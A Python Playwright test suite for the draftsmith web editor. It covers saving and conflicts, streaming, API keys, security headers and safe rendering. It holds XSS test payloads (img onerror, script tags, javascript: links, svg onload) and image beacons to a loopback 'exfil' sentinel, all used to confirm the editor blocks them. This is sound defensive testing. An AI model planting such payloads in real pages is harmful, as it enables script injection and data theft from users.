"""The web editor in a real headless Chromium (Debian ``chromium``, driven by Playwright) against a real uvicorn
server on loopback with a fake model and a real SQLite store: the CodeMirror editor loading with no request
outside the server and no policy violation, documents (save, reload, conflicts, history), corrections as chips,
streaming with Stop, API keys and error banners, safe rendering of hostile documents and model output, the
security headers and the offline API docs. Screenshots go to ``$DRAFTSMITH_WEB_SHOTS`` (default:
``<tmp>/draftsmith-web-shots``)."""

from __future__ import annotations

import os
import re
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from draftsmith.config import Settings
from draftsmith.models.fake import FakeModel, echo_responder
from draftsmith.server import ServerConfig, create_app
from draftsmith.server.routes_web import CSP, editor_policy
from draftsmith.store import accounts
from draftsmith.store.db import Store
from security.probes.core import Sentinel
from security.probes.live import serve as live_server
from security.probes.rendering import (
    CHROMIUM,
    CHROMIUM_ARGS,
    EDITOR,
    editor_selection,
    editor_text,
    expect_editor_text,
    fill_editor,
    select_in_editor,
)

pytestmark = pytest.mark.browser

SETTINGS = Settings(model="fake", prefix_cache=False)
SHOTS = Path(os.environ.get("DRAFTSMITH_WEB_SHOTS") or Path(tempfile.gettempdir()) / "draftsmith-web-shots")
TIMEOUT_MS = 10_000
STYLE_PRESETS = {p.stem for p in (Path(__file__).parent.parent / "src/draftsmith/style/presets").glob("*.yaml")}

sync_api = pytest.importorskip(
    "playwright.sync_api", reason="browser tests need Playwright: pip install 'draftsmith[browser]'"
)
if not Path(CHROMIUM).exists():
    pytest.skip(
        f"browser tests need Chromium at {CHROMIUM}: apt-get install chromium (CI installs it)", allow_module_level=True
    )
expect = sync_api.expect
expect.set_options(timeout=TIMEOUT_MS)

XSS_LINES = (
    "# Notes",
    '<img src=x onerror="window.__pwned=1">',
    "<script>window.__pwned=1</script>",
    "[x](javascript:window.__pwned=1)",
    "![t](http://127.0.0.1:9/exfil.png)",
    '<svg onload="window.__pwned=1"></svg>',
    "[ok](https://example.org/page)",
)


def hostile(sentinel: Sentinel) -> str:
    return "\n".join([*XSS_LINES, f"![watch](http://127.0.0.1:{sentinel.port}/exfil.png?doc=secret)"])


class StageModel(FakeModel):
    """A fake whose answer and speed each test sets, counting the tokens it streamed."""

    def __init__(self) -> None:
        super().__init__(lambda messages, params: self._answer(messages, params))
        self.reset()

    def reset(self) -> None:
        self.answer = echo_responder
        self.delay_s = 0.0
        self.produced = 0

    def _answer(self, messages, params) -> str:
        return self.answer(messages, params) if callable(self.answer) else self.answer

    def stream(self, messages, params):
        for chunk in super().stream(messages, params):
            self.produced += bool(chunk.text)
            yield chunk


@pytest.fixture(scope="module")
def sentinel() -> Iterator[Sentinel]:
    s = Sentinel()
    yield s
    s.close()


@pytest.fixture(scope="module")
def model() -> StageModel:
    return StageModel()


@pytest.fixture(scope="module")
def base(model, tmp_path_factory) -> Iterator[str]:
    """The editor's server: no users, so no keys (the single-user loopback mode)."""
    store = Store(f"sqlite:///{tmp_path_factory.mktemp('web') / 'web.db'}")
    with live_server(create_app(SETTINGS, model, config=ServerConfig(sse_ping_s=0), store=store)) as url:
        # The first correction loads the grammar checker (seconds); do it while the document tests run.
        warm = threading.Thread(target=httpx.post, args=(url + "/api/correct",), kwargs={"json": {"text": "Hi."}})
        warm.start()
        yield url
        warm.join(60)
    store.close()


@pytest.fixture(scope="module")
def browser():
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield browser
        browser.close()


class Watched:
    """A page plus every request it made, its console errors and uncaught errors."""

    def __init__(self, page) -> None:
        self.page = page
        self.requests: list[str] = []
        self.failed: dict[str, str] = {}  # url -> why (e.g. net::ERR_BLOCKED_BY_CSP)
        self.console_errors: list[str] = []
        self.page_errors: list[str] = []
        page.on("request", lambda r: self.requests.append(r.url))
        page.on("requestfailed", lambda r: self.failed.__setitem__(r.url, r.failure or ""))
        page.on("console", lambda m: m.type == "error" and self.console_errors.append(m.text))
        page.on("pageerror", lambda e: self.page_errors.append(str(e)))
        page.set_default_timeout(TIMEOUT_MS)

    def shot(self, name: str) -> None:
        SHOTS.mkdir(parents=True, exist_ok=True)
        self.page.screenshot(path=str(SHOTS / f"{name}.png"), full_page=True)

    def outside(self, base: str) -> list[str]:
        return [u for u in self.requests if not u.startswith((base + "/", "data:"))]


@pytest.fixture
def watched(browser, model) -> Iterator[Watched]:
    model.reset()
    context = browser.new_context(viewport={"width": 1400, "height": 900})
    watched = Watched(context.new_page())
    yield watched
    context.close()
    assert not watched.page_errors, watched.page_errors


@pytest.fixture
def api(base) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=base, timeout=10) as client:
        yield client


def make_doc(api: httpx.Client, title: str, text: str) -> dict:
    response = api.post("/api/documents", json={"title": title, "text": text})
    assert response.status_code == 201, response.text
    return response.json()


def open_doc(w: Watched, base: str, doc: dict) -> None:
    w.page.goto(f"{base}/#doc={doc['id']}")
    expect(w.page.locator("#doc-version")).to_have_text(f"version {doc['version']}")
    expect_editor_text(w.page, doc["text"])


# -- the editor component ---------------------------------------------------------------------------------------


def test_the_codemirror_editor_loads_offline_within_the_policy(watched, base):
    """The bundle comes from the server, nothing else is fetched, and CodeMirror's own <style> element carries the
    page's nonce: the strict policy holds without a single violation while typing, undoing and redoing."""
    page = watched.page
    page.add_init_script(
        "window.__violations = []; document.addEventListener('securitypolicyviolation', "
        "e => window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`))"
    )
    response = page.goto(base + "/")
    nonce = page_nonce(response.headers["content-security-policy"])
    expect(page.locator("#editor .cm-editor")).to_be_visible()
    expect(page.locator(EDITOR)).to_have_attribute("contenteditable", "true")
    assert base + "/static/vendor/codemirror.js" in watched.requests
    styles = page.eval_on_selector_all("style", "nodes => nodes.map(n => [n.nonce, n.sheet.cssRules.length])")
    assert styles and all(n == nonce and rules > 10 for n, rules in styles), styles  # applied, not blocked

    page.click(EDITOR)
    page.keyboard.type("# Notes\n\nA **bold** plan.", delay=10)
    expect_editor_text(page, "# Notes\n\nA **bold** plan.")
    expect(page.locator("#editor .cm-line")).to_have_count(3)
    heading = page.locator("#editor .cm-line").first
    assert heading.evaluate("n => getComputedStyle(n.querySelector('span')).fontWeight") in ("700", "bold")
    page.keyboard.press("Control+z")  # the editor's own undo history
    assert editor_text(page) != "# Notes\n\nA **bold** plan."
    page.keyboard.press("Control+y")  # redo
    expect_editor_text(page, "# Notes\n\nA **bold** plan.")
    watched.shot("editor-codemirror")
    page.keyboard.press("Control+f")  # the editor's search panel, styled under the same nonce
    expect(page.locator("#editor .cm-search input[name=search]")).to_be_focused()
    page.keyboard.press("Escape")
    expect(page.locator("#editor .cm-search")).to_have_count(0)

    assert page.evaluate("window.__violations") == []
    assert not [e for e in watched.console_errors if "Content Security Policy" in e], watched.console_errors
    assert watched.outside(base) == []  # no CDN, no font, no telemetry: everything from the server


# -- documents ------------------------------------------------------------------------------------------------


def test_create_type_save_and_reload_shows_the_saved_text(watched, base, api):
    page = watched.page
    page.goto(base + "/")
    expect(page.locator("#doc-version")).to_have_text("not saved")
    page.fill("#title", "Trip notes")
    page.locator(EDITOR).press_sequentially("Day one: rain.")
    expect(page.locator("#dirty")).to_have_text("unsaved changes")
    page.click("#save")
    expect(page.locator("#doc-version")).to_have_text("version 1")
    expect(page.locator("#dirty")).to_have_text("")

    page.locator(EDITOR).press("End")
    page.locator(EDITOR).press_sequentially(" Day two: sun.")
    page.keyboard.press("Control+s")
    expect(page.locator("#doc-version")).to_have_text("version 2")
    doc_id = page.evaluate("location.hash").removeprefix("#doc=")
    stored = api.get(f"/api/documents/{doc_id}").json()
    assert stored["text"] == "Day one: rain. Day two: sun." and stored["version"] == 2
    assert stored["title"] == "Trip notes"

    page.reload()
    expect_editor_text(page, "Day one: rain. Day two: sun.")
    expect(page.locator("#title")).to_have_value("Trip notes")
    expect(page.locator("#doc-version")).to_have_text("version 2")
    expect(page.locator(f"#doc-list [data-doc-id='{doc_id}']")).to_have_text("Trip notes")
    expect(page.locator("#version-list li")).to_have_count(2)
    watched.shot("saved-and-reloaded")

    # History: view version 1, restore it (as version 3).
    page.locator("#version-list li[data-version='1'] button", has_text="View").click()
    expect(page.locator("#compare-text")).to_have_text("Day one: rain.")
    page.locator("#version-list li[data-version='1'] button", has_text="Restore").click()
    expect(page.locator("#doc-version")).to_have_text("version 3")
    expect_editor_text(page, "Day one: rain.")
    assert api.get(f"/api/documents/{doc_id}").json()["text"] == "Day one: rain."


def test_a_stale_save_shows_the_conflict_and_overwrites_nothing(watched, base, api):
    page = watched.page
    doc = make_doc(api, "Shared", "first words")
    open_doc(watched, base, doc)
    theirs = api.put(f"/api/documents/{doc['id']}", json={"text": "their words", "base_version": 1})
    assert theirs.status_code == 200

    fill_editor(page, "my words")
    page.click("#save")
    conflict = page.locator("#conflict")
    expect(conflict).to_be_visible()
    expect(conflict).to_contain_text("changed elsewhere")
    expect(page.locator("#conflict-version")).to_have_text("2")
    expect_editor_text(page, "my words")  # the user's text is kept
    current = api.get(f"/api/documents/{doc['id']}").json()
    assert (current["text"], current["version"]) == ("their words", 2)  # and theirs is not overwritten
    watched.shot("conflict")

    # Reload drops mine and shows theirs.
    page.click("#conflict-reload")
    expect_editor_text(page, "their words")
    expect(page.locator("#doc-version")).to_have_text("version 2")
    expect(conflict).to_be_hidden()

    # Another stale save, merged: their text beside mine, the save is based on theirs.
    assert api.put(f"/api/documents/{doc['id']}", json={"text": "their second", "base_version": 2}).status_code == 200
    fill_editor(page, "their words, and mine")
    page.click("#save")
    expect(conflict).to_be_visible()
    assert api.get(f"/api/documents/{doc['id']}").json()["text"] == "their second"
    page.click("#conflict-merge")
    expect(page.locator("#compare-text")).to_have_text("their second")
    expect_editor_text(page, "their words, and mine")
    fill_editor(page, "their second, and mine")
    page.click("#save")
    expect(page.locator("#doc-version")).to_have_text("version 4")
    current = api.get(f"/api/documents/{doc['id']}").json()
    assert (current["text"], current["version"]) == ("their second, and mine", 4)
    texts = [api.get(f"/api/documents/{doc['id']}/versions/{v}").json()["text"] for v in (1, 2, 3)]
    assert texts == ["first words", "their words", "their second"]  # every version kept


# -- operations -----------------------------------------------------------------------------------------------


def fixer(messages, params) -> str:
    return echo_responder(messages, params).replace("She go ", "She goes ").replace("He have ", "He has ")


def test_correct_shows_edit_chips_and_accepting_one_changes_the_text(watched, base, model):
    page = watched.page
    model.answer = fixer
    page.goto(base + "/")
    fill_editor(page, "She go to school. He have a cat.")
    page.click("[data-op=correct]")
    chips = page.locator("#edits .chip")
    expect(chips).to_have_count(2, timeout=60_000)  # waits for the checker's first load, if still running
    first, second = chips.nth(0), chips.nth(1)
    expect(first.locator(".change")).to_have_text("go → goes")
    expect(first.locator(".category")).to_have_text("grammar")
    expect(first.locator(".reason")).not_to_be_empty()
    expect(second.locator(".change")).to_have_text("have → has")
    watched.shot("correct-chips")

    first.get_by_role("button", name="Accept").click()
    expect_editor_text(page, "She goes to school. He have a cat.")
    expect(first).to_have_class("chip accepted")
    second.get_by_role("button", name="Accept").click()  # its offsets moved with the first edit
    expect_editor_text(page, "She goes to school. He has a cat.")
    expect(page.locator("#dirty")).to_have_text("unsaved changes")

    # A rejected chip leaves the text alone.
    page.click("[data-op=correct]")  # nothing left to fix
    expect(page.locator("#op-status")).to_have_text("Corrections: none needed.")
    fill_editor(page, "She go home.")
    page.click("[data-op=correct]")
    expect(chips).to_have_count(1)
    chips.nth(0).get_by_role("button", name="Reject").click()
    expect(chips.nth(0)).to_have_class("chip rejected")
    expect_editor_text(page, "She go home.")


def test_rewrite_on_a_selection_replaces_only_the_selection(watched, base, model):
    page = watched.page
    model.answer = "The meeting has moved to 3 pm."
    page.goto(base + "/")
    fill_editor(page, "Intro.\nhey, the meeting moved to 3.\nOutro.")
    select_in_editor(page, 7, 35)
    page.select_option("#style", "formal")
    page.click("[data-op=rewrite]")
    expect(page.locator("#output")).to_have_text("The meeting has moved to 3 pm.")
    page.click("#apply")
    expect_editor_text(page, "Intro.\nThe meeting has moved to 3 pm.\nOutro.")
    assert any("formal" in m.content.lower() for m in model.calls[-1])  # the chosen style reached the model


def test_continue_streams_tokens_progressively_and_stop_ends_the_stream(watched, base, model):
    page = watched.page
    model.answer = " ".join(f"word{i}" for i in range(400))
    model.delay_s = 0.03
    page.goto(base + "/")
    fill_editor(page, "The rain had stopped.")
    page.click("[data-op=continue]")
    preview = page.locator("#stream")
    expect(preview).to_contain_text("word3")
    early = len(preview.inner_text())
    expect(preview).to_contain_text("word12")
    later = len(preview.inner_text())
    assert 0 < early < later  # tokens arrive one by one, not all at the end
    expect(page.locator("#stop")).to_be_visible()
    watched.shot("streaming")

    page.click("#stop")
    expect(page.locator("#op-status")).to_have_text("Continuation: stopped.")
    expect(page.locator("#stop")).to_be_hidden()
    stopped = preview.text_content()
    time.sleep(0.4)
    assert preview.text_content() == stopped  # nothing more arrives
    deadline = time.monotonic() + 3  # and the server stopped the model (it would run ~5 s more)
    while True:
        produced = model.produced
        time.sleep(0.3)
        if model.produced == produced or time.monotonic() > deadline:
            break
    assert model.produced == produced and produced < 150
    expect(page.locator("[data-op=continue]")).to_be_enabled()

    # What arrived can still be inserted.
    page.click("#apply")
    expect_editor_text(page, f"The rain had stopped. {stopped}")


def test_a_finished_stream_renders_the_result(watched, base, model):
    page = watched.page
    model.answer = "## Summary\n\n- **rain** stopped\n- we *walked*"
    page.goto(base + "/")
    fill_editor(page, "The rain had stopped. We walked out into the wet street.")
    page.click("[data-op=summarize]")
    output = page.locator("#output")
    expect(output.locator("h4")).to_have_text("Summary")
    expect(output.locator("li strong")).to_have_text("rain")
    expect(output.locator("li em")).to_have_text("walked")
    expect(page.locator("#apply")).to_have_text("Insert below")


# -- keys and errors ------------------------------------------------------------------------------------------


def test_api_key_lives_in_session_storage_and_errors_are_shown(browser, tmp_path):
    store = Store(f"sqlite:///{tmp_path / 'keys.db'}")
    accounts.add_user(store, "ana", requests_per_minute=4)
    key, _ = accounts.create_key(store, "ana")
    app = create_app(SETTINGS, FakeModel("fine"), config=ServerConfig(sse_ping_s=0), store=store)
    context = browser.new_context()
    try:
        with live_server(app) as url:
            w = Watched(context.new_page())
            page = w.page
            page.goto(url + "/")
            error = page.locator("#error")
            expect(error).to_be_visible()
            expect(error).to_contain_text("401 unauthorized")
            expect(error).to_contain_text("Enter a valid API key")

            page.fill("#api-key", key)
            page.click("#key-use")
            expect(error).to_be_hidden()
            expect(page.locator("#key-state")).to_have_text("key set for this tab")
            expect(page.locator("#api-key")).to_have_value("")
            assert page.evaluate("sessionStorage.getItem('draftsmith.apiKey')") == key
            assert page.evaluate("localStorage.length") == 0
            assert key not in page.url

            for _ in range(6):  # 4 requests a minute: the list refreshes run into 429
                page.click("#doc-refresh")
                if error.is_visible():
                    break
            expect(error).to_contain_text("429 rate_limited")
            expect(error).to_contain_text("retry after")
            w.shot("rate-limited")

            page.click("#key-forget")
            assert page.evaluate("sessionStorage.getItem('draftsmith.apiKey')") is None
            assert not w.page_errors, w.page_errors
    finally:
        context.close()
        store.close()


# -- rendering and headers ------------------------------------------------------------------------------------


def assert_not_pwned(w: Watched, base: str, sentinel: Sentinel) -> None:
    page = w.page
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert not [u for u in w.requests if ":9/" in u], w.requests  # not even attempted
    assert w.outside(base) == []
    assert sentinel.connections == 0
    shown = "#output img, #preview img, #editor img, #output script, #preview script, #editor script, svg"
    assert page.locator(shown).count() == 0
    hrefs = page.eval_on_selector_all("a[href]", "links => links.map(a => a.href)")
    assert all(h.startswith(("http://", "https://", "mailto:")) for h in hrefs), hrefs


@pytest.mark.parametrize("csp", ["enforced", "bypassed"])
def test_hostile_documents_and_model_output_never_run_script_or_load_images(browser, base, api, model, sentinel, csp):
    """With the page's CSP bypassed too: the rendering itself is safe, not only the policy."""
    model.reset()
    payload = hostile(sentinel)
    context = browser.new_context(bypass_csp=csp == "bypassed")
    w = Watched(context.new_page())
    try:
        page = w.page
        doc = make_doc(api, '<img src=x onerror="window.__pwned=1">', payload)
        open_doc(w, base, doc)
        expect(page.locator(f"#doc-list [data-doc-id='{doc['id']}']")).to_have_text(doc["title"])
        page.click("#preview-toggle")
        preview = page.locator("#preview")
        expect(preview).to_contain_text("<script>window.__pwned=1</script>")
        expect(preview).to_contain_text("[image: t]")
        expect(preview).to_contain_text("[image: watch]")
        expect(preview.locator("a")).to_have_attribute("href", "https://example.org/page")
        expect(preview.locator("a")).to_have_attribute("rel", "noopener noreferrer nofollow")
        expect(preview.locator(".unsafe-link")).to_have_text("x")
        page.click("#preview-toggle")

        model.answer = payload
        page.click("[data-op=rewrite]")
        output = page.locator("#output")
        expect(output).to_contain_text('<img src=x onerror="window.__pwned=1">')
        expect(output).to_contain_text("[image: watch]")
        model.answer = fixer  # hostile text in correction chips too
        fill_editor(page, 'She go <img src=x onerror="window.__pwned=1"> home.')
        page.click("[data-op=correct]")
        expect(page.locator("#edits .chip")).to_have_count(1)
        page.locator("#version-list button", has_text="View").click()
        expect(page.locator("#compare-text")).to_have_text(payload)
        page.wait_for_timeout(300)  # let any image error or navigation fire
        w.shot(f"xss-{csp}")
        assert_not_pwned(w, base, sentinel)
        assert not w.page_errors, w.page_errors
    finally:
        context.close()


def page_nonce(policy: str) -> str:
    """The editor page's style nonce, checking that it is the one thing its policy adds to ``CSP``."""
    match = re.fullmatch(r".*style-src 'self' 'nonce-([A-Za-z0-9_-]{22,})';.*", policy)
    assert match and policy == editor_policy(match.group(1)), policy
    return match.group(1)


def test_security_headers_on_every_answer_and_the_policy_is_enforced(watched, base, api, sentinel):
    for path in ("/", "/static/app.js", "/api/documents", "/healthz", "/no/such/page"):
        headers = api.get(path).headers
        if path == "/":
            page_nonce(headers["content-security-policy"])
        else:
            assert headers["content-security-policy"] == CSP, path
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "no-referrer"
        assert headers["x-frame-options"] == "DENY"
    first, second = api.get("/"), api.get("/")
    nonces = [page_nonce(r.headers["content-security-policy"]) for r in (first, second)]
    assert nonces[0] != nonces[1]  # one per answer
    assert f'nonce="{nonces[0]}"' in first.text and "{{csp_nonce}}" not in first.text
    page = watched.page
    response = page.goto(base + "/")
    page_nonce(response.headers["content-security-policy"])
    expect(page.locator("#doc-version")).to_be_visible()
    page.evaluate(
        """port => {
            window.__violations = 0;
            document.addEventListener('securitypolicyviolation', () => window.__violations++);
            const s = document.createElement('script');
            s.textContent = 'window.__pwned = 1';
            document.body.append(s);
            document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.__pwned = 2">');
            const img = document.createElement('img');
            img.src = `http://127.0.0.1:${port}/exfil.png`;
            document.body.append(img);
        }""",
        sentinel.port,
    )
    page.wait_for_function("window.__violations >= 3")
    assert page.evaluate("typeof window.__pwned") == "undefined"  # inline script and handlers blocked
    page.wait_for_timeout(200)
    assert sentinel.connections == 0  # and the external image never fetched


def test_docs_render_offline_from_vendored_swagger_ui(watched, base):
    page = watched.page
    response = page.goto(base + "/docs")
    policy = response.headers["content-security-policy"]
    assert "'unsafe-inline'" not in policy and "'unsafe-eval'" not in policy
    assert policy.replace(re.search(r" 'sha256-[^']+'", policy).group(0), "") == CSP  # one script hash added
    expect(page.locator(".swagger-ui .info .title")).to_contain_text("draftsmith")
    page.locator(".opblock-summary-path", has_text="/api/correct").click()
    expect(page.locator(".opblock-description-wrapper").first).to_contain_text("Fix grammar")
    watched.shot("docs")
    assert watched.outside(base) == []
    assert not [e for e in watched.console_errors if "Content Security Policy" in e], watched.console_errors


# -- writing aids: autocomplete, underlines, style picker -------------------------------------------------------


def test_ghost_text_appears_while_typing_tab_accepts_and_esc_dismisses(watched, base, model):
    page = watched.page
    model.answer = " jumps over the lazy dog."
    page.goto(base + "/")
    page.click(EDITOR)
    page.keyboard.type("The quick brown fox", delay=20)
    ghost = page.locator("#editor .ghost")
    expect(ghost).to_have_text(re.compile(r"^ jumps over"))
    expect(page.locator("#ghost-hint")).to_be_visible()
    suggested = ghost.text_content()
    watched.shot("autocomplete-ghost")
    expect_editor_text(page, "The quick brown fox")  # shown, not inserted
    page.keyboard.press("Tab")
    expect_editor_text(page, "The quick brown fox" + suggested)
    expect(ghost).to_have_count(0)
    assert page.evaluate("document.activeElement.matches('#editor .cm-content')")  # Tab did not move the focus

    page.keyboard.type(" Then", delay=20)
    expect(ghost).to_have_count(1)
    page.keyboard.press("Escape")
    expect(ghost).to_have_count(0)
    expect_editor_text(page, "The quick brown fox" + suggested + " Then")


def test_underlines_show_the_reason_on_hover_and_the_fix_applies(watched, base):
    page = watched.page
    page.goto(base + "/")
    fill_editor(page, "This is a sentense about the weather.")
    mark = page.locator("#editor .problem")
    expect(mark).to_have_count(1, timeout=60_000)  # the checker may still be loading
    expect(mark).to_have_text("sentense")
    box = mark.bounding_box()
    page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
    tip = page.locator("#problem-tip")
    expect(tip).to_be_visible()
    expect(tip.locator(".reason")).not_to_be_empty()
    expect(tip.locator(".rule")).to_have_text(re.compile(r"^[A-Z_]+$"))
    watched.shot("underline-hover")
    tip.get_by_role("button", name="sentence", exact=True).click()
    expect_editor_text(page, "This is a sentence about the weather.")
    expect(page.locator("#check-status")).to_have_text("no problems found")
    expect(mark).to_have_count(0)


def test_style_picker_lists_the_servers_styles_and_rewrite_uses_the_choice(watched, base, model):
    page = watched.page
    model.answer = "Greetings, esteemed colleagues."
    page.goto(base + "/")
    presets = page.locator("#style optgroup[label=Presets] option")
    expect(presets).to_have_count(len(STYLE_PRESETS))
    names = presets.evaluate_all("options => options.map(o => o.value)")
    assert set(names) == STYLE_PRESETS
    watched.shot("style-picker")
    fill_editor(page, "hi all")
    page.select_option("#style", "academic")
    page.click("[data-op=rewrite]")
    expect(page.locator("#output")).to_have_text("Greetings, esteemed colleagues.")
    assert any("academic" in m.content.lower() for m in model.calls[-1])


# -- the sources panel: graph facts and fact checks ------------------------------------------------------------

HOSTILE_FACT = '<img src=x onerror="window.__pwned=1">'


def graph_answer(messages, params) -> str:
    """The fake's fact extraction: the triples a passage or a claim states (JSON, as the template asks)."""
    import json

    text = messages[-1].content
    if "Source passages" in text:  # the grounded writer
        return "The Eiffel Tower was completed in 1889 [1]."
    if "1901" in text:
        return json.dumps({"triples": [["Eiffel Tower", "completionDate", "1901"]]})
    if "Gustave Eiffel designed" in text:
        return json.dumps({"triples": [["Gustave Eiffel", "designed", "Eiffel Tower"]]})
    return json.dumps({"triples": []})


def test_graph_facts_panel_shows_related_facts_with_passages_and_marks_checked_claims(watched, base, api, model):
    model.answer = graph_answer
    assert api.post("/api/kb", json={"name": "atlas"}).status_code == 201
    doc = f"# Tower\n\nGustave Eiffel designed the Eiffel Tower. {HOSTILE_FACT}\n".encode()
    stored = api.post("/api/kb/atlas/documents?filename=tower.md", content=doc, timeout=120).json()["name"]
    assert api.post("/api/kg", json={"name": "atlas"}).status_code == 201
    assert api.post("/api/kg/atlas/build", timeout=120).json()["triples_added"] == 1
    for predicate, value in (("completionDate", "1889"), ("nickname", HOSTILE_FACT)):
        added = api.post(
            "/api/kg/atlas/triples", json={"subject": "Eiffel Tower", "predicate": predicate, "object": value}
        )
        assert added.status_code == 201, added.text

    page = watched.page
    page.goto(base + "/")
    expect(page.locator("#kg option[value=atlas]")).to_have_count(1)
    page.select_option("#kg", "atlas")
    text = "Gustave Eiffel designed the Eiffel Tower. The Eiffel Tower was completed in 1901. The weather was lovely."
    fill_editor(page, text)
    page.click("#kg-facts")
    facts = page.locator("#graph-facts li")
    expect(facts).to_have_count(3)
    expect(page.locator("#graph-entities")).to_have_text(re.compile("Eiffel Tower, Gustave Eiffel"))
    first = facts.nth(0)  # the fact linking two names of the text, with the passage it was read from
    expect(first.locator(".line")).to_have_text("Eiffel Tower — designer — Gustave Eiffel")  # thing → its maker
    expect(first.locator(".where")).to_have_text(re.compile(re.escape(stored)))
    expect(first.locator(".passage")).to_contain_text(f"Gustave Eiffel designed the Eiffel Tower. {HOSTILE_FACT}")
    expect(page.locator("#graph-facts")).to_contain_text(f"Eiffel Tower — nickname — {HOSTILE_FACT}")
    expect(page.locator("#graph-facts")).to_contain_text("added by hand")

    page.click("#kg-check")
    claims = page.locator("#fact-checks li")
    expect(claims).to_have_count(3)
    verdicts = claims.evaluate_all("items => items.map(i => i.dataset.verdict)")
    assert verdicts == ["supported", "contradicted", "not_found"]
    expect(claims.nth(1).locator(".verdict")).to_have_text("contradicted")
    expect(claims.nth(1).locator(".evidence")).to_have_text("contradicts: Eiffel Tower — completion date — 1889")
    expect(page.locator("#graph-status")).to_have_text(re.compile("1 supported, 1 contradicted, 1 not found"))
    expect(facts).to_have_count(3)  # the related facts stay next to the checks
    watched.shot("graph-facts")
    claims.nth(1).locator(".claim-text").click()
    selected = editor_selection(page)
    assert selected.strip() == "The Eiffel Tower was completed in 1901."

    select_in_editor(page, 0, 0)
    fill_editor(page, "When was the Eiffel Tower completed?")
    page.click("[data-op=ground-kg]")  # write --kg: the draft cites the graph's facts
    expect(page.locator("#output")).to_have_text(re.compile(r"^The Eiffel Tower was completed in 1889 \[1\]"))
    expect(page.locator("#sources li").first).to_contain_text("knowledge graph atlas")
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert page.locator("#sources-panel img, #sources-panel script").count() == 0
    assert watched.outside(base) == []


def test_style_picker_offers_the_users_own_profiles_and_rewrite_applies_one(watched, base, api, model):
    samples = [
        "The committee met on Tuesday to review the budget. Members argued about the cost of the new library. "
        f"Note {i}: the weather was mild and the hall was full."
        for i in range(5)
    ]
    profile = api.post("/api/styles/profiles", json={"name": "minutes-voice", "samples": samples}).json()
    model.answer = "The board met on Monday."
    page = watched.page
    page.goto(base + "/")
    option = page.locator("#style optgroup[label='Your profiles'] option")
    expect(option).to_have_text("minutes-voice")
    fill_editor(page, "hey the board got together monday")
    page.select_option("#style", f"profile:{profile['id']}")
    page.click("[data-op=rewrite]")
    expect(page.locator("#output")).to_have_text("The board met on Monday.")
    assert any("Sample lines in this style" in m.content for m in model.calls[-1])  # applied as a learned style


# -- issue 9's editor list: shorten with a diff, what changed in a version, autosave -------------------------------


def test_shorten_shows_the_words_it_deletes_and_inserts_then_replace_accepts(watched, base, model):
    page = watched.page
    model.answer = "The meeting has moved to 3 pm."
    page.goto(base + "/")
    fill_editor(page, "hey, the meeting moved to 3.")
    page.click("[data-op=shorten]")
    diff = page.locator("#result-diff")
    expect(diff.locator("del")).to_have_text(["hey, the ", "3"])
    expect(diff.locator("ins")).to_have_text(["The ", "has ", "3 pm"])
    expect(diff).to_have_text("hey, the The meeting has moved to 33 pm.")
    assert any("concise" in m.content.lower() for m in model.calls[-1])  # Shorten is a concise rewrite
    watched.shot("shorten-diff")
    page.click("#discard")  # reject: the text stays
    expect(diff).to_be_hidden()
    expect_editor_text(page, "hey, the meeting moved to 3.")
    page.click("[data-op=shorten]")
    page.click("#apply")  # accept
    expect_editor_text(page, "The meeting has moved to 3 pm.")
    page.locator(EDITOR).press("Control+z")  # one undo step takes the whole replacement back
    expect_editor_text(page, "hey, the meeting moved to 3.")


def test_autosave_saves_after_a_pause_and_history_shows_what_changed(watched, base, api):
    page = watched.page
    doc = make_doc(api, "Minutes", "The meeting moved to 3.")
    open_doc(watched, base, doc)
    page.check("#autosave")
    page.locator(EDITOR).press("End")
    page.locator(EDITOR).press_sequentially(" Bring the report.")
    expect(page.locator("#dirty")).to_have_text("unsaved changes")
    expect(page.locator("#doc-version")).to_have_text("version 2", timeout=15_000)  # saved without a click
    expect(page.locator("#dirty")).to_have_text("")
    versions = api.get(f"/api/documents/{doc['id']}/versions").json()
    assert (versions[-1]["version"], versions[-1]["note"]) == (2, "autosave")
    caret = page.evaluate("window.draftsmithEditor.selection()")
    assert caret == {"from": len(doc["text"] + " Bring the report."), "to": len(doc["text"] + " Bring the report.")}

    page.locator("#version-list li[data-version='2'] button", has_text="Changes").click()
    expect(page.locator("#compare-title")).to_have_text("Changes in version 2 (from version 1)")
    expect(page.locator("#compare-text ins")).to_have_text(" Bring the report.")
    expect(page.locator("#compare-text del")).to_have_count(0)
    watched.shot("history-changes")
    page.reload()  # the choice is remembered in this browser
    expect(page.locator("#autosave")).to_be_checked()
